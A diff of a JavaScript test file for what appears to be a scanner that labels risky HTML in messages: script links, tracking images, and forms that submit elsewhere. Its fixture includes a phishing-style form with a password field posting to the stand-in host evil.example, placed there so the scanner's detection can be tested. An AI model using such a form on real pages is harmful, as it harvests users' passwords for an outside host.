@@ -107,13 +107,15 @@ test('addresses that are shown are links only in HTML without any', () => {
 test('what runs, loads and is filled in is told apart', () => {
   const { hits, facts } = scanned({
     html: `<a href="javascript:x()">1</a><img src="http://t.example/p" width=1 height=1><form action="http://evil.example/">
-      <input name=a></form><a href="https://sender.example/">2</a>`,
+      <input type=password name=a></form><a href="https://sender.example/">2</a>`,
   });
   const found = names(hits);
   for (const name of ['link.script', 'link.tracking-image', 'phish.form-elsewhere'])
     assert.ok(found.includes(name), name);
   assert.deepEqual(facts.hosts, ['evil.example', 'sender.example', 't.example']);
-  const own = scanned({ html: '<form action="https://www.sender.example/"></form>' });
+  const search = scanned({ html: '<form action="https://search.example/"><input name=q></form>' });
+  assert.ok(!names(search.hits).includes('phish.form-elsewhere'));
+  const own = scanned({ html: '<form action="https://www.sender.example/"><input name=pin></form>' });
   assert.ok(!names(own.hits).includes('phish.form-elsewhere'));
 });
 
